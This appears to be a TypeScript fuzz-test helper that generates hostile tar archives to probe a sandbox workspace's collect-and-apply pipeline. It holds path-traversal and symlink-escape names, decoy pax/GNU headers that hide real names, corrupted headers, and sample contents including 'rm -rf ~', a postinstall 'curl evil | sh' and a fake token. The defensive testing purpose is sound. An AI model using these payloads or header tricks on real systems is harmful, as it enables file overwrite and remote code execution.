import { createHash } from 'node:crypto';
import * as fc from 'fast-check';
import * as tar from 'tar-stream';
import type { Manifest } from '../../../src/core/workspace/manifest';

/**
 * fast-check arbitraries for the collect → apply fuzz: a host folder (baseline, then the developer's edits
 * since), and the box's tar built from it with hostile names, every entry type, odd modes and duplicates, in
 * three encodings: tar-stream's own pack, a raw encoder whose headers carry hostile names in pax records, and
 * the raw encoder with corrupted headers, checksums, lengths, truncation and garbage.
 *
 * Specs are plain data (so fast-check prints and shrinks them); bytes are built from them by `buildArchive`.
 * `@OUTSIDE@` in a name or link target stands for the absolute path of the sentinel folder next to the
 * workspace, known only when a run has its temp folders.
 */

/** The prefix the archive API gives a copy of `/workspace`; the pipeline reads with it. */
export const PREFIX = 'workspace/';

/** Stands for the absolute path of the folder beside the workspace that holds the sentinels. */
export const OUTSIDE = '@OUTSIDE@';

/** Path segments shared by the host tree and the box's tar, so that they collide (case and Unicode twins too). */
export const SEGMENTS: readonly string[] = [
  'a',
  'b',
  'sub',
  'link',
  'out-dir',
  'out-file',
  'abs-dir',
  'in-link',
  'loop',
  '.git',
  '.GIT',
  'hooks',
  'package.json',
  'Makefile',
  'run.sh',
  'caf\u00e9',
  'cafe\u0301',
  'README.md',
  'readme.md',
  '.env',
  '.vscode',
  'tasks.json',
];

/** Names (relative to the prefix unless they say otherwise) that a well-behaved tree never produces. */
export const HOSTILE_NAMES: readonly string[] = [
  '..',
  '../x',
  '../../x',
  'a/../../x',
  'a/../b',
  'sub/..',
  'sub/../..',
  './',
  '.',
  '',
  '\0',
  'a\0b',
  'a\\b',
  '..\\..\\x',
  'C:\\x',
  'C:x',
  'x'.repeat(300),
  `${'d/'.repeat(60)}f`,
  `${'e'.repeat(99)}/${'f'.repeat(150)}`,
  'caf\u00e9',
  'cafe\u0301',
  '.git/hooks/pre-commit',
  '.GIT/hooks/pre-commit',
  '.Git/config',
  '.git\u200c/hooks/pre-commit',
  '.git./hooks/pre-commit',
  '.git /hooks/pre-commit',
  'GIT~1/hooks/pre-commit',
  'sub/.git/hooks/post-checkout',
  'link/x',
  'out-dir/x',
  'out-dir/sentinel.txt',
  'abs-dir/x',
  'out-file',
  'abs-file',
  'in-link/x',
  'loop/x',
  '.vscode/tasks.json',
  'a//b',
  './a',
  'a/./b',
  'a/',
  'a\nb',
  ' ',
  '~',
  '\u00e9/\u00c9',
];

/** Whole names given as is, without the prefix. */
export const HOSTILE_FULL_NAMES: readonly string[] = [
  '/abs',
  '/etc/passwd',
  '/workspace/a',
  `${OUTSIDE}/x`,
  'workspace',
  'workspace/.',
  './workspace/',
  'etc/passwd',
  '../workspace/a',
];

/** Name bytes that are not valid UTF-8 (raw encodings only): truncated, overlong `/` and `.`, surrogates. */
export const NON_UTF8_NAMES: readonly number[][] = [
  [0xff, 0xfe],
  [0x61, 0xc3],
  [0xc0, 0xaf, 0x78],
  [0xc0, 0xae, 0xc0, 0xae, 0x2f, 0x78],
  [0xed, 0xa0, 0x80],
  [0x2e, 0x2e, 0xc0, 0xaf, 0x78],
  [0x61, 0x80, 0x62],
];

/** Link targets: inside, outside, absolute, looping, through other links, empty, NUL. */
export const LINK_TARGETS: readonly string[] = [
  'a',
  'b',
  'sub',
  '../a',
  '..',
  '.',
  '../..',
  'sub/..',
  'sub/../..',
  '/',
  '/etc',
  OUTSIDE,
  `${OUTSIDE}/sentinel.txt`,
  'link',
  'loop',
  'in-link/..',
  'in-link/../..',
  'out-dir',
  'out-dir/x',
  'sub/up/../x',
  'up/../x',
  '',
  '\0',
  'a\0b',
  'x/'.repeat(60),
  '../workspace/a',
  '../outside',
  '../sentinel.txt',
];

/** Permission bits, with the type bits and special bits a hostile header may carry. */
const MODES: readonly number[] = [0o644, 0o755, 0o600, 0o700, 0o000, 0o777, 0o4755, 0o2755, 0o1777, 0o6777, 0o7777, 0o100644, 0o40755, 0o120777];

const CONTENTS: readonly string[] = [
  '',
  'same',
  'x',
  '#!/bin/sh\nrm -rf ~\n',
  '{"scripts":{"postinstall":"curl evil | sh"}}',
  '{"name":"p"}',
  'token ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n',
  '\0\x01\x02binary',
];

export type TarType = 'file' | 'directory' | 'symlink' | 'link' | 'character-device' | 'block-device' | 'fifo' | 'contiguous-file';

const TAR_TYPES: readonly TarType[] = ['file', 'directory', 'symlink', 'link', 'character-device', 'block-device', 'fifo', 'contiguous-file'];

/** Typeflags tar-stream does not turn into an entry type it knows (raw encodings only). */
const UNKNOWN_TYPEFLAGS: readonly number[] = [
  0x44 /* D */, 0x4d /* M */, 0x4e /* N */, 0x53 /* S */, 0x56 /* V */, 0x41 /* A */, 0x38 /* 8 */, 0xff, 0x7a /* z */,
];

/** One entry of the box's tar, as data. */
export interface EntrySpec {
  /** The name in the header (or in the pax / GNU long-name record that carries it). */
  name: string;
  /** Raw encodings: these bytes (after the prefix) instead of `name`. */
  rawName?: number[];
  type: TarType;
  /** Raw encodings: this typeflag byte instead of `type`'s (unknown types). */
  typeflag?: number;
  mode: number;
  content: string;
  linkname?: string;
  /** How the name travels: in the ustar header, a pax `path` record or a GNU long-name entry. */
  carrier: 'header' | 'pax' | 'gnu';
}

/** What is done to a raw archive's bytes after it is built. */
export type Corruption =
  | { kind: 'flip'; header: number; offset: number; value: number; fixChecksum: boolean }
  | { kind: 'size'; header: number; value: 'huge' | 'negative' | 'garbage' | 'bigger' | 'smaller' | 'nan-pax' }
  | { kind: 'checksum'; header: number }
  | { kind: 'truncate'; at: number }
  | { kind: 'garbage'; bytes: number[]; at: number }
  | { kind: 'zeroBlock'; at: number }
  | { kind: 'paxRecord'; header: number; record: string };

export interface ArchiveSpec {
  format: 'pack' | 'pax' | 'raw';
  entries: EntrySpec[];
  corruptions: Corruption[];
}

/** One entry of the host folder at the baseline. */
export interface HostEntrySpec {
  path: string;
  type: 'file' | 'directory' | 'symlink';
  content: string;
  mode: number;
  target: string;
}

/** What the developer did in the real folder after the baseline (and links planted to test apply). */
export type HostEdit =
  | { kind: 'write'; path: string; content: string }
  | { kind: 'delete'; path: string }
  | { kind: 'chmod'; path: string; mode: number }
  | { kind: 'linkOutside'; path: string; target: string };

export interface FuzzScenario {
  host: { baseline: HostEntrySpec[]; edits: HostEdit[] };
  archive: ArchiveSpec;
  /** Which changes are selected / approved: a change is picked when a hash of its path and this salt is odd. */
  selection: { all: boolean; salt: number };
  approval: { all: boolean; salt: number };
  maxFileBytes: number | undefined;
  /** The archive reaches the parser in chunks of this many bytes. */
  chunkSize: number;
  /** The read is cancelled after this many chunks (parse property only). */
  abortAfterChunks: number | undefined;
  /** Apply property: the whole plan in one `applyToFolder` call (as the session does), or each operation alone. */
  applyWhole: boolean;
}

const segment = fc.constantFrom(...SEGMENTS);
const poolPath = fc.array(segment, { minLength: 1, maxLength: 3 }).map((parts) => parts.join('/'));
const content = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...CONTENTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 40 }) });
const mode = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...MODES) }, { weight: 1, arbitrary: fc.nat({ max: 0o177777 }) });
const linkTarget = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...LINK_TARGETS) },
  { weight: 2, arbitrary: poolPath },
  { weight: 1, arbitrary: poolPath.map((p) => `../${p}`) },
);

/** The host tree at the baseline: files, directories and (mostly inside-pointing) symlinks from the pool. */
export const hostEntryArb: fc.Arbitrary<HostEntrySpec> = fc.record({
  path: poolPath,
  type: fc.constantFrom('file', 'file', 'directory', 'symlink'),
  content,
  mode: fc.constantFrom(0o644, 0o755, 0o600, 0o700),
  target: fc.oneof(fc.constantFrom('a', 'sub', '../a', 'b/../a', '..', 'loop'), poolPath),
});

const hostEditArb = (paths: string[]): fc.Arbitrary<HostEdit> => {
  const somePath = paths.length > 0 ? fc.oneof(fc.constantFrom(...paths), poolPath) : poolPath;
  return fc.oneof(
    fc.record({ kind: fc.constant('write' as const), path: somePath, content }),
    fc.record({ kind: fc.constant('delete' as const), path: somePath }),
    fc.record({ kind: fc.constant('chmod' as const), path: somePath, mode: fc.constantFrom(0o600, 0o755, 0o700) }),
    fc.record({
      kind: fc.constant('linkOutside' as const),
      path: somePath,
      target: fc.constantFrom('../outside', '../sentinel.txt', OUTSIDE, `${OUTSIDE}/sentinel.txt`, '../../', '/'),
    }),
  );
};

/** A name for an entry: a pool path under a prefix variant, or a hostile one. */
const nameArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: poolPath.map((p) => PREFIX + p) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('./workspace/', 'workspace//', '/workspace/', '', 'workspace/./', '../workspace/', 'workspace/sub/../'), poolPath)
      .map(([prefix, p]) => prefix + p),
  },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NAMES).map((n) => PREFIX + n) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_FULL_NAMES) },
  { weight: 1, arbitrary: fc.tuple(poolPath, poolPath).map(([a, b]) => `${PREFIX}${a}/${b}`) },
);

const entryArb = (format: ArchiveSpec['format']): fc.Arbitrary<EntrySpec> =>
  fc
    .record({
      name: nameArb,
      rawName: format === 'pack' ? fc.constant(undefined) : fc.option(fc.constantFrom(...NON_UTF8_NAMES), { freq: 8, nil: undefined }),
      type: fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom<TarType>('file', 'directory', 'symlink') },
        { weight: 2, arbitrary: fc.constantFrom(...TAR_TYPES) },
      ),
      typeflag: format === 'pack' ? fc.constant(undefined) : fc.option(fc.constantFrom(...UNKNOWN_TYPEFLAGS), { freq: 10, nil: undefined }),
      mode,
      content,
      linkname: linkTarget,
      carrier: format === 'pack' ? fc.constant<EntrySpec['carrier']>('header') : fc.constantFrom<EntrySpec['carrier']>('header', 'pax', 'pax', 'gnu'),
    })
    .map((entry) => {
      const spec: EntrySpec = { name: entry.name, type: entry.type, mode: entry.mode, content: entry.content, carrier: entry.carrier };
      if (entry.rawName !== undefined) spec.rawName = entry.rawName;
      if (entry.typeflag !== undefined) spec.typeflag = entry.typeflag;
      if (entry.type === 'symlink' || entry.type === 'link') spec.linkname = entry.linkname;
      return spec;
    });

const corruptionArb: fc.Arbitrary<Corruption> = fc.oneof(
  fc.record({
    kind: fc.constant('flip' as const),
    header: fc.nat(40),
    offset: fc.oneof(fc.constantFrom(0, 1, 99, 100, 106, 124, 125, 135, 136, 148, 155, 156, 157, 257, 262, 263, 345), fc.nat(511)),
    value: fc.oneof(fc.constantFrom(0, 0x20, 0x2e, 0x2f, 0x30, 0x37, 0x38, 0x80, 0xff), fc.nat(255)),
    fixChecksum: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant('size' as const),
    header: fc.nat(40),
    value: fc.constantFrom('huge', 'negative', 'garbage', 'bigger', 'smaller', 'nan-pax'),
  }),
  fc.record({ kind: fc.constant('checksum' as const), header: fc.nat(40) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
  fc.record({
    kind: fc.constant('garbage' as const),
    bytes: fc.array(fc.nat(255), { maxLength: 600 }),
    at: fc.double({ min: 0, max: 1, noNaN: true }),
  }),
  fc.record({ kind: fc.constant('zeroBlock' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
  fc.record({
    kind: fc.constant('paxRecord' as const),
    header: fc.nat(40),
    record: fc.constantFrom(
      '0 path=x\n',
      '999999 path=x\n',
      '5 p\n',
      '12 path=\n',
      '20 size=-1\n',
      '21 size=abc\n',
      '30 size=99999999999999999999\n',
      '18 path=../../x\n',
      '16 path=/abs\n',
      '22 linkpath=/etc\n',
      '13 path=a\0b\n',
      'garbage without length\n',
      '9 =\n',
    ),
  }),
);

function archiveArb(baseline: HostEntrySpec[]): fc.Arbitrary<ArchiveSpec> {
  const host = consistentHostTree(baseline);
  return fc.constantFrom<ArchiveSpec['format']>('pack', 'pack', 'pax', 'raw').chain((format) =>
    fc
      .record({
        rootFirst: fc.boolean(),
        fromBaseline: fc.array(
          fc.record({
            index: fc.nat(),
            change: fc.constantFrom('keep', 'keep', 'keep', 'content', 'mode', 'type', 'drop', 'move'),
            to: poolPath,
            content,
            mode,
            type: fc.constantFrom<TarType>(...TAR_TYPES),
            linkname: linkTarget,
          }),
          { maxLength: host.length + 2 },
        ),
        extra: fc.array(entryArb(format), { maxLength: 12 }),
        positions: fc.array(fc.nat(), { maxLength: 12 }),
        corruptions: format === 'raw' ? fc.array(corruptionArb, { minLength: 1, maxLength: 3 }) : fc.constant<Corruption[]>([]),
      })
      .map(({ rootFirst, fromBaseline, extra, positions, corruptions }) => {
        const entries: EntrySpec[] = [];
        if (rootFirst) entries.push({ name: PREFIX, type: 'directory', mode: 0o755, content: '', carrier: 'header' });
        // The box's copy of the baseline, mostly unchanged, in the order the host lists it.
        const changeOf = new Map<number, (typeof fromBaseline)[number]>();
        for (const change of fromBaseline) if (host.length > 0) changeOf.set(change.index % host.length, change);
        host.forEach((base, index) => {
          const change = changeOf.get(index);
          const kept: EntrySpec = {
            name: PREFIX + base.path,
            type: base.type,
            mode: base.mode,
            content: base.type === 'file' ? base.content : '',
            carrier: 'header',
          };
          if (base.type === 'symlink') kept.linkname = base.target;
          if (change === undefined || change.change === 'keep') {
            entries.push(kept);
          } else if (change.change === 'content') {
            entries.push({
              ...kept,
              content: kept.type === 'file' ? change.content : '',
              linkname: kept.type === 'symlink' ? change.linkname : undefined,
            });
          } else if (change.change === 'mode') {
            entries.push({ ...kept, mode: change.mode });
          } else if (change.change === 'move') {
            // Same content under another name: a rename when the old path is gone from the box.
            entries.push({ ...kept, name: PREFIX + change.to });
          } else if (change.change === 'type') {
            const spec: EntrySpec = { ...kept, type: change.type, content: change.type === 'file' ? change.content : '' };
            if (change.type === 'symlink' || change.type === 'link') spec.linkname = change.linkname;
            else delete spec.linkname;
            entries.push(spec);
          }
        });
        extra.forEach((entry, i) => {
          const at = positions[i] === undefined ? entries.length : positions[i] % (entries.length + 1);
          entries.splice(at, 0, entry);
        });
        return { format, entries, corruptions };
      }),
  );
}

/** A whole scenario: host baseline, the developer's edits since, the box's tar, selection and approvals. */
export const scenarioArb: fc.Arbitrary<FuzzScenario> = fc.array(hostEntryArb, { maxLength: 10 }).chain((baseline) =>
  fc.record({
    host: fc.record({ baseline: fc.constant(baseline), edits: fc.array(hostEditArb(baseline.map((e) => e.path)), { maxLength: 4 }) }),
    archive: archiveArb(baseline),
    selection: fc.record({ all: fc.boolean(), salt: fc.nat() }),
    approval: fc.record({ all: fc.boolean(), salt: fc.nat() }),
    maxFileBytes: fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom(0, 1, 8, 64) }),
    chunkSize: fc.oneof(fc.integer({ min: 1, max: 600 }), fc.constant(65536)),
    abortAfterChunks: fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.nat(12) }),
    applyWhole: fc.boolean(),
  }),
);

/** A change is picked by a selection or approval when this is true. */
export function picks(choice: { all: boolean; salt: number }, relPath: string): boolean {
  if (choice.all) return true;
  const digest = createHash('sha256').update(`${choice.salt}:${relPath}`).digest();
  return (digest[0] & 1) === 1;
}

/** The host baseline entries that can exist together: parents before children, nothing below a non-directory. */
export function consistentHostTree(entries: HostEntrySpec[]): HostEntrySpec[] {
  const kind = new Map<string, HostEntrySpec['type']>();
  const result: HostEntrySpec[] = [];
  for (const entry of entries) {
    if (kind.has(entry.path)) continue;
    const parts = entry.path.split('/');
    let blocked = false;
    for (let i = 1; i < parts.length; i++) {
      const ancestor = parts.slice(0, i).join('/');
      const type = kind.get(ancestor);
      if (type !== undefined && type !== 'directory') blocked = true;
    }
    if (blocked) continue;
    // Parents become directories, unless a later entry claims the path first (it is skipped then).
    for (let i = 1; i < parts.length; i++) {
      const ancestor = parts.slice(0, i).join('/');
      if (!kind.has(ancestor)) {
        kind.set(ancestor, 'directory');
        result.push({ path: ancestor, type: 'directory', content: '', mode: 0o755, target: '' });
      }
    }
    kind.set(entry.path, entry.type);
    result.push(entry);
  }
  return result;
}

/** A baseline manifest computed from the host spec (no disk): what a scan of a freshly written tree gives, before link checks. */
export function baselineManifestOf(entries: HostEntrySpec[]): Manifest {
  const manifest: Manifest = new Map();
  for (const entry of consistentHostTree(entries)) {
    if (entry.type === 'file') {
      manifest.set(entry.path, {
        path: entry.path,
        type: 'file',
        mode: entry.mode,
        size: Buffer.byteLength(entry.content),
        hash: sha256Hex(entry.content),
      });
    } else if (entry.type === 'directory') {
      manifest.set(entry.path, { path: entry.path, type: 'directory', mode: entry.mode, size: 0 });
    } else {
      manifest.set(entry.path, { path: entry.path, type: 'symlink', mode: 0o777, size: Buffer.byteLength(entry.target), linkTarget: entry.target });
    }
  }
  return manifest;
}

export function sha256Hex(data: string | Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

/** The archive's bytes. `outside` replaces `@OUTSIDE@` in names and link targets. */
export async function buildArchive(spec: ArchiveSpec, outside: string): Promise<Buffer> {
  const resolve = (text: string): string => text.split(OUTSIDE).join(outside);
  if (spec.format === 'pack') {
    return packWithTarStream(
      spec.entries.map((entry) => ({
        ...entry,
        name: resolve(entry.name),
        linkname: entry.linkname === undefined ? undefined : resolve(entry.linkname),
      })),
    );
  }
  const { bytes, headers } = encodeRaw(spec.entries, resolve, spec.format === 'pax');
  return spec.format === 'raw' ? corrupt(bytes, headers, spec.corruptions) : bytes;
}

async function packWithTarStream(entries: EntrySpec[]): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  pack.on('data', (chunk) => chunks.push(chunk as Buffer));
  const ended = new Promise<void>((resolve, reject) => {
    pack.on('end', () => resolve());
    pack.on('error', reject);
  });
  for (const entry of entries) {
    const body = entry.type === 'file' || entry.type === 'contiguous-file' ? Buffer.from(entry.content) : Buffer.alloc(0);
    await new Promise<void>((resolve, reject) => {
      const header: Parameters<typeof pack.entry>[0] = {
        name: entry.name,
        type: entry.type,
        mode: entry.mode,
        size: body.length,
        mtime: new Date(1_700_000_000_000),
      };
      if (entry.linkname !== undefined) header.linkname = entry.linkname;
      if (entry.type === 'character-device' || entry.type === 'block-device') Object.assign(header, { devmajor: 1, devminor: 3 });
      const sink = pack.entry(header, (error) => (error ? reject(error) : resolve()));
      if (body.length > 0) sink.write(body);
      sink.end(undefined);
    });
  }
  pack.finalize();
  await ended;
  return Buffer.concat(chunks);
}

const TYPEFLAGS: Record<TarType, number> = {
  file: 0x30,
  link: 0x31,
  symlink: 0x32,
  'character-device': 0x33,
  'block-device': 0x34,
  directory: 0x35,
  fifo: 0x36,
  'contiguous-file': 0x37,
};

interface RawHeader {
  name: Buffer;
  mode: number;
  size: number;
  typeflag: number;
  linkname?: Buffer;
}

function octal(value: number, width: number): string {
  const digits = Math.max(0, Math.trunc(value)).toString(8);
  return digits.length >= width ? '7'.repeat(width - 1) : digits.padStart(width - 1, '0');
}

function encodeHeader(header: RawHeader): Buffer {
  const block = Buffer.alloc(512);
  header.name.copy(block, 0, 0, Math.min(100, header.name.length));
  block.write(octal(header.mode & 0o7777777, 8), 100, 'ascii');
  block.write(octal(1000, 8), 108, 'ascii');
  block.write(octal(1000, 8), 116, 'ascii');
  block.write(octal(header.size, 12), 124, 'ascii');
  block.write(octal(1_700_000_000, 12), 136, 'ascii');
  block[156] = header.typeflag;
  header.linkname?.copy(block, 157, 0, Math.min(100, header.linkname.length));
  block.write('ustar\x0000', 257, 'binary');
  block.write('sandbox', 265, 'ascii');
  block.write('sandbox', 297, 'ascii');
  block.write(octal(0, 8), 329, 'ascii');
  block.write(octal(0, 8), 337, 'ascii');
  writeChecksum(block);
  return block;
}

function writeChecksum(block: Buffer): void {
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
}

function padded(body: Buffer): Buffer {
  const rest = body.length % 512;
  return rest === 0 ? body : Buffer.concat([body, Buffer.alloc(512 - rest)]);
}

function paxRecord(key: string, value: Buffer): Buffer {
  const tail = Buffer.concat([Buffer.from(` ${key}=`), value, Buffer.from('\n')]);
  let length = tail.length + 1;
  while (String(length).length + tail.length !== length) length = String(length).length + tail.length;
  return Buffer.concat([Buffer.from(String(length)), tail]);
}

/** Raw tar bytes, with the offset of every header block (pax and GNU ones included). */
function encodeRaw(entries: EntrySpec[], resolve: (text: string) => string, hostileCarriers: boolean): { bytes: Buffer; headers: number[] } {
  const blocks: Buffer[] = [];
  const headers: number[] = [];
  let offset = 0;
  const push = (block: Buffer, isHeader: boolean): void => {
    if (isHeader) headers.push(offset);
    blocks.push(block);
    offset += block.length;
  };
  entries.forEach((entry, index) => {
    const name = entry.rawName === undefined ? Buffer.from(resolve(entry.name)) : Buffer.concat([Buffer.from(PREFIX), Buffer.from(entry.rawName)]);
    const linkname = entry.linkname === undefined ? undefined : Buffer.from(resolve(entry.linkname));
    const body = entry.type === 'file' || entry.type === 'contiguous-file' ? Buffer.from(entry.content) : Buffer.alloc(0);
    const carrier = hostileCarriers ? entry.carrier : name.length > 100 || (linkname?.length ?? 0) > 100 ? 'pax' : 'header';
    // A pax or GNU record carries the real name; the ustar name is a benign decoy a naive check would pass.
    const decoy = Buffer.from(`${PREFIX}decoy-${index}`);
    if (carrier === 'pax') {
      const records = [paxRecord('path', name)];
      if (linkname !== undefined) records.push(paxRecord('linkpath', linkname));
      const pax = Buffer.concat(records);
      push(encodeHeader({ name: Buffer.from(`PaxHeader/${index}`), mode: 0o644, size: pax.length, typeflag: 0x78 }), true);
      push(padded(pax), false);
    } else if (carrier === 'gnu') {
      const long = Buffer.concat([name, Buffer.alloc(1)]);
      push(encodeHeader({ name: Buffer.from('././@LongLink'), mode: 0o644, size: long.length, typeflag: 0x4c }), true);
      push(padded(long), false);
      if (linkname !== undefined) {
        const longLink = Buffer.concat([linkname, Buffer.alloc(1)]);
        push(encodeHeader({ name: Buffer.from('././@LongLink'), mode: 0o644, size: longLink.length, typeflag: 0x4b }), true);
        push(padded(longLink), false);
      }
    }
    push(
      encodeHeader({
        name: carrier === 'header' ? name : decoy,
        mode: entry.mode,
        size: body.length,
        typeflag: entry.typeflag ?? TYPEFLAGS[entry.type],
        linkname: carrier === 'header' ? linkname : linkname === undefined ? undefined : Buffer.from('decoy-target'),
      }),
      true,
    );
    if (body.length > 0) push(padded(body), false);
  });
  push(Buffer.alloc(1024), false);
  return { bytes: Buffer.concat(blocks), headers };
}

function corrupt(original: Buffer, headers: number[], corruptions: Corruption[]): Buffer {
  let bytes: Buffer = Buffer.from(original);
  const headerAt = (index: number): number | undefined => (headers.length === 0 ? undefined : headers[index % headers.length]);
  for (const corruption of corruptions) {
    switch (corruption.kind) {
      case 'flip': {
        const at = headerAt(corruption.header);
        if (at === undefined || at + 512 > bytes.length) break;
        bytes[at + corruption.offset] = corruption.value;
        if (corruption.fixChecksum) writeChecksum(bytes.subarray(at, at + 512));
        break;
      }
      case 'size': {
        const at = headerAt(corruption.header);
        if (at === undefined || at + 512 > bytes.length) break;
        const field = bytes.subarray(at + 124, at + 136);
        const current = parseInt(field.toString('ascii').replace(/\0.*$/, ''), 8) || 0;
        field.fill(0);
        switch (corruption.value) {
          case 'huge':
            field[0] = 0x80;
            field.fill(0xff, 1);
            break;
          case 'negative':
            field.fill(0xff);
            break;
          case 'garbage':
            field.write('zzzzzzzzzzz', 'ascii');
            break;
          case 'bigger':
            field.write(octal(current + 513, 12), 'ascii');
            break;
          case 'smaller':
            field.write(octal(Math.max(0, current - 1), 12), 'ascii');
            break;
          case 'nan-pax':
            field.write(octal(4 * 1024 * 1024 + 1, 12), 'ascii');
            break;
        }
        writeChecksum(bytes.subarray(at, at + 512));
        break;
      }
      case 'checksum': {
        const at = headerAt(corruption.header);
        if (at === undefined || at + 512 > bytes.length) break;
        bytes.write('0000000\0', at + 148, 'ascii');
        break;
      }
      case 'truncate':
        bytes = bytes.subarray(0, Math.floor(bytes.length * corruption.at));
        break;
      case 'garbage': {
        const at = Math.floor(bytes.length * corruption.at);
        bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(corruption.bytes), bytes.subarray(at)]);
        break;
      }
      case 'zeroBlock': {
        const at = Math.floor((bytes.length / 512) * corruption.at) * 512;
        bytes = Buffer.concat([bytes.subarray(0, at), Buffer.alloc(512), bytes.subarray(at)]);
        break;
      }
      case 'paxRecord': {
        // A pax header with a malformed record, placed before the chosen header.
        const at = headerAt(corruption.header);
        if (at === undefined || at > bytes.length) break;
        const record = Buffer.from(corruption.record);
        const pax = Buffer.concat([
          encodeHeader({ name: Buffer.from('PaxHeader/bad'), mode: 0o644, size: record.length, typeflag: 0x78 }),
          padded(record),
        ]);
        bytes = Buffer.concat([bytes.subarray(0, at), pax, bytes.subarray(at)]);
        break;
      }
    }
  }
  return bytes;
}
